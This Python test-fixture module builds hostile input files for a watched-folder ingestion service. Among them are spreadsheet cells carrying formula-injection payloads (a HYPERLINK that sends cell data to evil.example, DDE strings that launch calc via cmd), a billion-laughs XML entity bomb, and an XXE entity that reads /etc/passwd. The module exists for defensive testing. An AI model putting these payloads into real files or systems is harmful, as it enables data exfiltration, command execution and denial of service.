"""Hostile files for the watched folder, made on the spot: spreadsheets too tall to read or
with XML bombs, images and PDFs too small to have pages, names too long for a reason file
or not UTF-8 at all, formulas in cells, and things that are not files (links, FIFOs,
folders). Everything is written by streaming: nothing here holds a big file in memory."""

from __future__ import annotations

import csv
import io
import os
import zipfile
from collections.abc import Iterable
from pathlib import Path

import cv2
import numpy as np
from openpyxl import Workbook

COLUMNS = ["full_name", "date_of_birth", "id_number", "tax_residency"]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A2,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
SHEET = "xl/worksheets/sheet1.xml"
SHEET_HEAD = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
SHEET_TAIL = "</sheetData></worksheet>"


def tall_csv(path: Path, rows: int) -> Path:
    """A CSV batch of ``rows`` data rows, written row by row."""
    with path.open("w", newline="", encoding="utf-8") as handle:
        out = csv.writer(handle)
        out.writerow(COLUMNS)
        for n in range(rows):
            out.writerow([f"Person {n}", "1970-01-01", f"X{n:08d}", "GB"])
    return path


def formula_csv(path: Path) -> Path:
    """A CSV batch whose text cells start like spreadsheet formulas."""
    with path.open("w", newline="", encoding="utf-8") as handle:
        out = csv.writer(handle)
        out.writerow(COLUMNS)
        for n, formula in enumerate(FORMULAS):
            out.writerow([formula, "1970-01-01", f"F{n:08d}", formula])
    return path


def _xlsx_parts() -> dict[str, bytes]:
    """The parts of a one-sheet workbook as openpyxl writes it."""
    buffer = io.BytesIO()
    book = Workbook()
    book.active.append(COLUMNS)
    book.save(buffer)
    with zipfile.ZipFile(buffer) as zipped:
        return {name: zipped.read(name) for name in zipped.namelist()}


def _cell(text: str) -> str:
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return f'<c t="inlineStr"><is><t xml:space="preserve">{escaped}</t></is></c>'


def _row(cells: Iterable[str]) -> str:
    return "<row>" + "".join(_cell(c) for c in cells) + "</row>"


def xlsx_with_sheet(path: Path, chunks: Iterable[str]) -> Path:
    """An XLSX whose first sheet's XML is ``chunks`` joined, streamed into the archive."""
    parts = _xlsx_parts()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zipped:
        for name, data in parts.items():
            if name != SHEET:
                zipped.writestr(name, data)
        with zipped.open(SHEET, "w", force_zip64=True) as sheet:
            for chunk in chunks:
                sheet.write(chunk.encode())
    return path


def tall_xlsx(path: Path, rows: int) -> Path:
    """An XLSX batch of ``rows`` data rows."""
    block = "".join(_row([f"Person {n}", "1970-01-01", f"X{n:08d}", "GB"]) for n in range(1000))

    def chunks():
        yield SHEET_HEAD + _row(COLUMNS)
        for _ in range(rows // 1000):
            yield block
        yield SHEET_TAIL

    return xlsx_with_sheet(path, chunks())


def formula_xlsx(path: Path) -> Path:
    rows = [_row([f, "1970-01-01", f"F{n:08d}", f]) for n, f in enumerate(FORMULAS)]
    return xlsx_with_sheet(path, [SHEET_HEAD, _row(COLUMNS), *rows, SHEET_TAIL])


def billion_laughs_xlsx(path: Path) -> Path:
    """An XLSX whose sheet defines entities that expand to ~10^9 characters."""
    entities = ['<!ENTITY lol "lol">'] + [
        f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">'
        for n in range(1, 10)
    ]
    doctype = "<!DOCTYPE worksheet [" + "".join(entities) + "]>"
    head = SHEET_HEAD.replace("\n", "\n" + doctype, 1)
    row = "<row>" + '<c t="inlineStr"><is><t>&lol9;</t></is></c>' * 4 + "</row>"
    return xlsx_with_sheet(path, [head, _row(COLUMNS), row, SHEET_TAIL])


def external_entity_xlsx(path: Path, target: Path = Path("/etc/passwd")) -> Path:
    """An XLSX whose sheet pulls a local file in through an external entity."""
    doctype = f'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file://{target}">]>'
    head = SHEET_HEAD.replace("\n", "\n" + doctype, 1)
    row = "<row>" + '<c t="inlineStr"><is><t>&xxe;</t></is></c>' * 4 + "</row>"
    return xlsx_with_sheet(path, [head, _row(COLUMNS), row, SHEET_TAIL])


def tiny_png(path: Path) -> Path:
    """A 1×1 pixel PNG."""
    ok, data = cv2.imencode(".png", np.full((1, 1), 255, np.uint8))
    assert ok
    path.write_bytes(data.tobytes())
    return path


def pdf_bytes(media_box: str = "0 0 0 0", text: str = "Claim form for a claim") -> bytes:
    """A one-page PDF with a text layer and the given MediaBox, with a correct xref."""
    content = f"BT /F1 12 Tf 10 10 Td ({text}) Tj ET".encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [{media_box}] /Contents 4 0 R "
        "/Resources << /Font << /F1 5 0 R >> >> >>".encode(),
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out, offsets = bytearray(b"%PDF-1.4\n"), []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def zero_mediabox_pdf(path: Path) -> Path:
    path.write_bytes(pdf_bytes("0 0 0 0"))
    return path


def long_name(stem_bytes: int, suffix: str, tag: str = "") -> str:
    """A file name whose stem is ``stem_bytes`` bytes long (multi-byte letters included)."""
    start = f"{tag}-é-" if tag else "é-"
    stem = start + "x" * (stem_bytes - len(start.encode()))
    assert len(stem.encode()) == stem_bytes
    return stem + suffix


def bytes_path(folder: Path, name: bytes) -> bytes:
    """The path of ``name`` (any bytes, not necessarily UTF-8) in ``folder``."""
    return os.fsencode(folder) + b"/" + name
